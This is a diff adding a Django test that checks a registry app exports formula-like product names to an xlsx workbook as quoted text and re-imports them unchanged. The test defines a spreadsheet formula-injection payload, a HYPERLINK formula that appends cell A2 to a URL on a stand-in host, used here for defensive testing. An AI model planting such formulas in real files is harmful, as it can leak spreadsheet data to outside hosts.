@@ -285,3 +285,26 @@ def test_an_import_cannot_move_an_asset_out_of_a_final_status(client, specialist
     assert confirm(client, response).status_code == 409  # refused: the rows still have errors
     asset.refresh_from_db()
     assert asset.status == refused
+
+
+INJECTED = '=HYPERLINK("http://example.invalid/?"&A2,"Click")'
+
+
+def test_the_export_workbook_writes_a_formula_like_name_as_text_and_it_imports_back_unchanged(
+    client, group, specialist
+):
+    client_for(client, specialist)
+    confirm(client, preview(client, [product_row(n) for n in ("Mật ong rừng", "Ba kích tím", "Miến dong")]))
+    # As a user could type them on the product form (a workbook cell holding them would be a formula).
+    for old, new in (("Mật ong rừng", INJECTED), ("Ba kích tím", "+84 Mật ong"), ("Miến dong", "@Ba kích")):
+        Product.objects.filter(name=old).update(name=new)
+
+    exported = client.get(reverse("registries:import_export", args=["products"]))
+    sheet = openpyxl.load_workbook(io.BytesIO(exported.content)).active
+    cells = {row[0].value: row[0] for row in sheet.iter_rows(min_row=2)}
+    for name in (INJECTED, "+84 Mật ong", "@Ba kích"):
+        assert cells[name].data_type == "s" and cells[name].quotePrefix, name
+    # The exported file itself, uploaded again, reads back as it was written: three updates.
+    again = SimpleUploadedFile("export.xlsx", exported.content)
+    response = client.post(reverse("registries:import"), {"kind": "products", "file": again})
+    assert response.context["outcome"].counts["update"] == 3
